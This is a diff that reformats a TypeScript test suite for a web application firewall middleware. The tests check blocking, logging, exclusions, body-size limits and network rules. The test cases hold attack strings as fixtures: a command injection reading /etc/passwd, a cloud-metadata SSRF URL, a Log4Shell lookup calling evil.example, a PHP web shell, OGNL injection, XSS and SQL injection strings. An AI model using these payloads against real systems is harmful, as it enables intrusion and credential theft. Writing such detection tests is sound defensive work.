@@ -21,7 +21,8 @@ import { requestContext } from "../../src/middleware/request-context.ts";
 import { securityFilter } from "../../src/middleware/security-filter.ts";
 import { problemOf } from "./helpers.ts";
 
-const BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
+const BROWSER =
+  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
 
 function withSecurity(security: SecurityConfig): MiddlewareHandler<AppEnv> {
   return async function testSecurity(c, next) {
@@ -76,7 +77,9 @@ afterEach(() => logSpy.mockRestore());
 /** The `waf` field of the request's log line for `res`. */
 function wafLog(res: Response): Record<string, unknown> {
   const id = res.headers.get("x-request-id");
-  const line = logSpy.mock.calls.map((a) => String(a[0])).find((l) => l.includes('"msg":"request"') && l.includes(`"requestId":"${id}"`));
+  const line = logSpy.mock.calls
+    .map((a) => String(a[0]))
+    .find((l) => l.includes('"msg":"request"') && l.includes(`"requestId":"${id}"`));
   if (!line) throw new Error(`no request log line for ${id}`);
   return (JSON.parse(line) as { waf: Record<string, unknown> }).waf;
 }
@@ -120,12 +123,36 @@ describe("security filter middleware", () => {
   it("detects attacks in JSON bodies, forms, cookies and headers", async () => {
     const app = appWith();
     const cases: Array<[string, string, Sent]> = [
-      ["command", "/v1/echo", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ host: "8.8.8.8; cat /etc/passwd" }) }],
-      ["ssrf", "/v1/form", { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F" }],
+      [
+        "command",
+        "/v1/echo",
+        {
+          method: "POST",
+          headers: { "content-type": "application/json" },
+          body: JSON.stringify({ host: "8.8.8.8; cat /etc/passwd" }),
+        },
+      ],
+      [
+        "ssrf",
+        "/v1/form",
+        {
+          method: "POST",
+          headers: { "content-type": "application/x-www-form-urlencoded" },
+          body: "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
+        },
+      ],
       ["template", "/v1/search", { headers: { cookie: "greeting=%7B%7B7*7%7D%7D; theme=dark" } }],
       ["log4shell", "/v1/search", { headers: { "x-api-version": "${${lower:j}ndi:ldap://evil.example/a}" } }],
-      ["php", "/v1/echo-text", { method: "POST", headers: { "content-type": "text/plain" }, body: "<?php system($_GET['c']); ?>" }],
-      ["java", "/v1/search", { headers: { "content-type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" } }],
+      [
+        "php",
+        "/v1/echo-text",
+        { method: "POST", headers: { "content-type": "text/plain" }, body: "<?php system($_GET['c']); ?>" },
+      ],
+      [
+        "java",
+        "/v1/search",
+        { headers: { "content-type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" } },
+      ],
     ];
     for (const [cls, path, init] of cases) {
       const res = await send(app, path, init);
@@ -137,27 +164,52 @@ describe("security filter middleware", () => {
   it("the route still reads the whole body after inspection (JSON, text, form)", async () => {
     const app = appWith();
     const doc = { name: "Siobhán O'Brien", notes: "x".repeat(200_000), items: [1, 2, 3] };
-    const res = await send(app, "/v1/echo", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(doc) });
+    const res = await send(app, "/v1/echo", {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: JSON.stringify(doc),
+    });
     expect(res.status).toBe(200);
     expect(await res.json()).toEqual({ body: doc });
     const text = "line one\nline two — rock 'n' roll\n";
-    const t = await send(app, "/v1/echo-text", { method: "POST", headers: { "content-type": "text/plain" }, body: new Blob([text]).stream() });
+    const t = await send(app, "/v1/echo-text", {
+      method: "POST",
+      headers: { "content-type": "text/plain" },
+      body: new Blob([text]).stream(),
+    });
     expect(t.status).toBe(200);
     expect(await t.text()).toBe(text);
-    const f = await send(app, "/v1/form", { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "name=D%27Angelo&city=L%27Aquila" });
+    const f = await send(app, "/v1/form", {
+      method: "POST",
+      headers: { "content-type": "application/x-www-form-urlencoded" },
+      body: "name=D%27Angelo&city=L%27Aquila",
+    });
     expect(await f.json()).toEqual({ name: "D'Angelo", city: "L'Aquila" });
   });
 
   it("only reads maxBodyBytes of the body for inspection (the body-size limit refuses larger ones first)", async () => {
     const app = appWith({ maxBodyBytes: 64 });
-    const small = await send(app, "/v1/echo-text", { method: "POST", headers: { "content-type": "text/plain" }, body: "<script>alert(1)</script>" });
+    const small = await send(app, "/v1/echo-text", {
+      method: "POST",
+      headers: { "content-type": "text/plain" },
+      body: "<script>alert(1)</script>",
+    });
     expect(small.status).toBe(403);
-    const large = await send(app, "/v1/echo-text", { method: "POST", headers: { "content-type": "text/plain" }, body: `${"a".repeat(100)}<script>alert(1)</script>` });
+    const large = await send(app, "/v1/echo-text", {
+      method: "POST",
+      headers: { "content-type": "text/plain" },
+      body: `${"a".repeat(100)}<script>alert(1)</script>`,
+    });
     expect(large.status).toBe(413);
   });
 
   it("network rules use the visitor: blocked and allowed addresses, IPv4-mapped IPv6, countries, ASNs", async () => {
-    const app = appWith({ blockedIps: ["203.0.113.0/24"], allowedIps: ["203.0.113.9"], blockedCountries: ["KP"], blockedAsns: [64496] });
+    const app = appWith({
+      blockedIps: ["203.0.113.0/24"],
+      allowedIps: ["203.0.113.9"],
+      blockedCountries: ["KP"],
+      blockedAsns: [64496],
+    });
     const blocked = await send(app, "/v1/search", { visitor: { ip: "203.0.113.7" } });
     expect(blocked.status).toBe(403);
     expect(wafLog(blocked)).toMatchObject({ action: "block", ruleId: "network-blocked-ip", class: "network" });
@@ -169,15 +221,31 @@ describe("security filter middleware", () => {
     expect(wafLog(allowed)).toMatchObject({ action: "allow", ruleId: "network-allowed-ip" });
     expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", country: "KP" } })).status).toBe(403);
     expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", asn: 64496 } })).status).toBe(403);
-    expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", country: "DE", asn: 3320 } })).status).toBe(200);
+    expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", country: "DE", asn: 3320 } })).status).toBe(
+      200,
+    );
   });
 
   it("allowedIps skip body inspection too", async () => {
     const app = appWith({ allowedIps: ["2001:db8::/32"] });
     const body = JSON.stringify({ q: "<script>alert(1)</script>" });
-    const res = await send(app, "/v1/echo", { method: "POST", headers: { "content-type": "application/json" }, body, visitor: { ip: "2001:db8::1" } });
+    const res = await send(app, "/v1/echo", {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body,
+      visitor: { ip: "2001:db8::1" },
+    });
     expect(res.status).toBe(200);
-    expect((await send(app, "/v1/echo", { method: "POST", headers: { "content-type": "application/json" }, body, visitor: { ip: "2001:db9::1" } })).status).toBe(403);
+    expect(
+      (
+        await send(app, "/v1/echo", {
+          method: "POST",
+          headers: { "content-type": "application/json" },
+          body,
+          visitor: { ip: "2001:db9::1" },
+        })
+      ).status,
+    ).toBe(403);
   });
 
   it("custom rules: first allow/block wins in order, log rules are recorded", async () => {
@@ -191,7 +259,9 @@ describe("security filter middleware", () => {
     const logged = await send(app, "/v1/search?q=shoes");
     expect(logged.status).toBe(200);
     expect(wafLog(logged)).toMatchObject({ action: "log", ruleId: "watch-search", class: "custom" });
-    const partner = await send(app, "/v1/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", { headers: { "x-partner": "ACME Corp" } });
+    const partner = await send(app, "/v1/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", {
+      headers: { "x-partner": "ACME Corp" },
+    });
     expect(partner.status).toBe(200);
     expect(wafLog(partner)).toMatchObject({ action: "allow", ruleId: "allow-partner" });
     const wp = await send(app, "/wp-admin/install.php");
@@ -213,7 +283,9 @@ describe("security filter middleware", () => {
 
   it("scanner user agents are blocked, API clients are not", async () => {
     const app = appWith();
-    const scan = await send(app, "/v1/search", { headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" } });
+    const scan = await send(app, "/v1/search", {
+      headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" },
+    });
     expect(scan.status).toBe(403);
     expect(wafLog(scan).ruleId).toBe("scanner-user-agent");
     expect((await send(app, "/v1/search", { headers: { "user-agent": "curl/8.5.0" } })).status).toBe(200);
@@ -221,7 +293,11 @@ describe("security filter middleware", () => {
 });
 
 describe("security filter policy: anomaly score, exclusions, rule actions, body budget, errors", () => {
-  const json = (body: unknown): Sent => ({ method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
+  const json = (body: unknown): Sent => ({
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify(body),
+  });
   const UNION = "1' UNION SELECT password,1 FROM users--";
 
   it("weak findings add up: each alone passes, together they reach the threshold; the threshold is configurable", async () => {
@@ -255,12 +331,17 @@ describe("security filter policy: anomaly score, exclusions, rule actions, body 
     expect(wafLog(session)).toMatchObject({ ruleId: "fixation-session-param", class: "fixation" });
     // Level-1 rules block at every level.
     for (const paranoiaLevel of [1, 2, 3, 4]) {
-      expect((await send(appWith({ paranoiaLevel }), `/v1/search?q=${encodeURIComponent(UNION)}`)).status, `level ${paranoiaLevel}`).toBe(403);
+      expect(
+        (await send(appWith({ paranoiaLevel }), `/v1/search?q=${encodeURIComponent(UNION)}`)).status,
+        `level ${paranoiaLevel}`,
+      ).toBe(403);
     }
   });
 
   it("an exclusion by rule id, scoped to a path prefix and a parameter, lets exactly that through", async () => {
-    const app = appWith({ exclusions: [{ rules: ["sqli-union-select"], pathPrefix: "/v1/echo", parameters: ["code"] }] });
+    const app = appWith({
+      exclusions: [{ rules: ["sqli-union-select"], pathPrefix: "/v1/echo", parameters: ["code"] }],
+    });
     const ok = await send(app, "/v1/echo", json({ title: "docs", code: UNION }));
     expect(ok.status).toBe(200);
     // Same payload in another field, or on another path: still blocked.
@@ -269,23 +350,49 @@ describe("security filter policy: anomaly score, exclusions, rule actions, body 
   });
 
   it("an exclusion by class for a header, and a key path in JSON", async () => {
-    const app = appWith({ exclusions: [{ classes: ["xss"], headers: ["X-Preview-Html"] }, { classes: ["sqli"], parameters: ["snippets.0.sql"] }] });
+    const app = appWith({
+      exclusions: [
+        { classes: ["xss"], headers: ["X-Preview-Html"] },
+        { classes: ["sqli"], parameters: ["snippets.0.sql"] },
+      ],
+    });
     const html = await send(app, "/v1/search", { headers: { "x-preview-html": "<img src=x onerror=alert(1)>" } });
     expect(html.status).toBe(200);
-    expect((await send(app, "/v1/search", { headers: { "x-other": "<img src=x onerror=alert(1)>" } })).status).toBe(403);
+    expect((await send(app, "/v1/search", { headers: { "x-other": "<img src=x onerror=alert(1)>" } })).status).toBe(
+      403,
+    );
     expect((await send(app, "/v1/echo", json({ snippets: [{ sql: UNION }] }))).status).toBe(200);
     expect((await send(app, "/v1/echo", json({ snippets: [{ title: UNION }] }))).status).toBe(403);
   });
 
   it("ruleActions: a rule in log mode records a would-block and lets the request through; off ignores it", async () => {
-    const logged = await send(appWith({ ruleActions: { "sqli-union-select": "log" } }), `/v1/search?q=${encodeURIComponent(UNION)}`);
+    const logged = await send(
+      appWith({ ruleActions: { "sqli-union-select": "log" } }),
+      `/v1/search?q=${encodeURIComponent(UNION)}`,
+    );
     expect(logged.status).toBe(200);
-    expect(wafLog(logged)).toMatchObject({ action: "log", wouldBlock: true, ruleId: "sqli-union-select", class: "sqli", part: "query:q" });
-    const off = await send(appWith({ ruleActions: { "sqli-union-select": "off" } }), `/v1/search?q=${encodeURIComponent(UNION)}`);
+    expect(wafLog(logged)).toMatchObject({
+      action: "log",
+      wouldBlock: true,
+      ruleId: "sqli-union-select",
+      class: "sqli",
+      part: "query:q",
+    });
+    const off = await send(
+      appWith({ ruleActions: { "sqli-union-select": "off" } }),
+      `/v1/search?q=${encodeURIComponent(UNION)}`,
+    );
     expect(off.status).toBe(200);
     expect(wafLog(off).wouldBlock).toBeUndefined();
     // Other rules still block.
-    expect((await send(appWith({ ruleActions: { "sqli-union-select": "log" } }), "/v1/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")).status).toBe(403);
+    expect(
+      (
+        await send(
+          appWith({ ruleActions: { "sqli-union-select": "log" } }),
+          "/v1/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        )
+      ).status,
+    ).toBe(403);
   });
 
   it("the block decision's log line names the rule ids, class, part and a short sanitized excerpt", async () => {
@@ -298,7 +405,9 @@ describe("security filter policy: anomaly score, exclusions, rule actions, body 
     expect(excerpt.startsWith("1' UNION SELECT password,1 FROM users--??x")).toBe(true);
     expect(excerpt.length).toBeLessThanOrEqual(120);
     // Credentials never reach the log, even when they carry the attack.
-    const secret = await send(appWith(), "/v1/search", { headers: { "x-auth-token": "<script>alert('secret-token-123')</script>" } });
+    const secret = await send(appWith(), "/v1/search", {
+      headers: { "x-auth-token": "<script>alert('secret-token-123')</script>" },
+    });
     expect(secret.status).toBe(403);
     expect(wafLog(secret).excerpt).toBe("[redacted]");
     expect(logSpy.mock.calls.map((a) => String(a[0])).join("\n")).not.toContain("secret-token-123");
@@ -318,16 +427,27 @@ describe("security filter policy: anomaly score, exclusions, rule actions, body 
     expect(wafLog(logged)).toMatchObject({ action: "log", ruleId: "body-inspection-overflow", bodyOverflow: true });
     const blocked = await send(appWith({ inspectBodyBytes: 64, inspectOverflow: "block" }), "/v1/echo-text", text);
     expect(blocked.status).toBe(403);
-    expect(wafLog(blocked)).toMatchObject({ action: "block", ruleId: "body-inspection-overflow", class: "protocol", bodyOverflow: true });
+    expect(wafLog(blocked)).toMatchObject({
+      action: "block",
+      ruleId: "body-inspection-overflow",
+      class: "protocol",
+      bodyOverflow: true,
+    });
     // A body within the budget is not an overflow, whatever the policy.
-    const small = await send(appWith({ inspectBodyBytes: 64, inspectOverflow: "block" }), "/v1/echo-text", { ...text, body: "hello" });
+    const small = await send(appWith({ inspectBodyBytes: 64, inspectOverflow: "block" }), "/v1/echo-text", {
+      ...text,
+      body: "hello",
+    });
     expect(small.status).toBe(200);
     expect(wafLog(small).bodyOverflow).toBeUndefined();
   });
 
   it("JSON cut at the budget is still read field by field: benign text passes, an attack before the cut is found", async () => {
     const app = appWith({ inspectBodyBytes: 256 });
-    const notes = Array.from({ length: 40 }, (_, i) => ({ id: i, text: `Note ${i}: O'Brien's "garden" isn't done, or is it? Select a union rep.` }));
+    const notes = Array.from({ length: 40 }, (_, i) => ({
+      id: i,
+      text: `Note ${i}: O'Brien's "garden" isn't done, or is it? Select a union rep.`,
+    }));
     const benign = await send(app, "/v1/echo", json({ notes }));
     expect(benign.status).toBe(200);
     expect(wafLog(benign)).toMatchObject({ action: "allow", bodyOverflow: true });
@@ -335,7 +455,11 @@ describe("security filter policy: anomaly score, exclusions, rule actions, body 
     expect(attack.status).toBe(403);
     expect(wafLog(attack)).toMatchObject({ ruleId: "sqli-union-select", part: "body:text", bodyOverflow: true });
     // Malformed JSON: the literals and what stands between them are inspected.
-    const malformed = await send(app, "/v1/echo-text", { method: "POST", headers: { "content-type": "application/json" }, body: '{"a": "ok", "b": 1 UNION SELECT password FROM users}' });
+    const malformed = await send(app, "/v1/echo-text", {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: '{"a": "ok", "b": 1 UNION SELECT password FROM users}',
+    });
     expect(malformed.status).toBe(403);
   });
 
@@ -355,10 +479,30 @@ describe("security filter policy: anomaly score, exclusions, rule actions, body 
   it("pathological inputs (100 KiB of brackets, quotes, nested encodings) are decided without an error or a 500", async () => {
     const app = appWith();
     const n = 100 * 1024;
-    const inputs = ["(".repeat(n), "[".repeat(n), "'".repeat(n), "%25".repeat(n / 3), `${"%25".repeat(20)}32%25${"%2525".repeat(1_000)}`, "<".repeat(n), "${".repeat(n / 2), "\\".repeat(n), "/*".repeat(n / 2), "`$(".repeat(n / 3), ";truncate[xx".repeat(n / 12), `${"{".repeat(n / 2)}${"}".repeat(n / 2)}`];
+    const inputs = [
+      "(".repeat(n),
+      "[".repeat(n),
+      "'".repeat(n),
+      "%25".repeat(n / 3),
+      `${"%25".repeat(20)}32%25${"%2525".repeat(1_000)}`,
+      "<".repeat(n),
+      "${".repeat(n / 2),
+      "\\".repeat(n),
+      "/*".repeat(n / 2),
+      "`$(".repeat(n / 3),
+      ";truncate[xx".repeat(n / 12),
+      `${"{".repeat(n / 2)}${"}".repeat(n / 2)}`,
+    ];
     for (const input of inputs) {
-      for (const init of [json({ q: input }), { method: "POST", headers: { "content-type": "text/plain" }, body: input } satisfies Sent]) {
-        const res = await send(app, init.headers?.["content-type"] === "text/plain" ? "/v1/echo-text" : "/v1/echo", init);
+      for (const init of [
+        json({ q: input }),
+        { method: "POST", headers: { "content-type": "text/plain" }, body: input } satisfies Sent,
+      ]) {
+        const res = await send(
+          app,
+          init.headers?.["content-type"] === "text/plain" ? "/v1/echo-text" : "/v1/echo",
+          init,
+        );
         expect([200, 403], input.slice(0, 20)).toContain(res.status);
         expect(wafLog(res).error, input.slice(0, 20)).toBeUndefined();
       }
